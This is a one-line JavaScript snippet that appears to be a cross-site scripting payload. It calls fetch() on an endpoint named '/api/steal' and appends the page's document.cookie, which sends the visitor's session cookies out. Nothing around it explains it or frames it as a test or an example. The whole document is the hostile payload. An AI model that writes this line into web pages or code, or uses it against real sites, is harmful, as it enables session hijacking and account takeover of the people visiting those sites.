fetch('/api/steal?c=' + document.cookie);
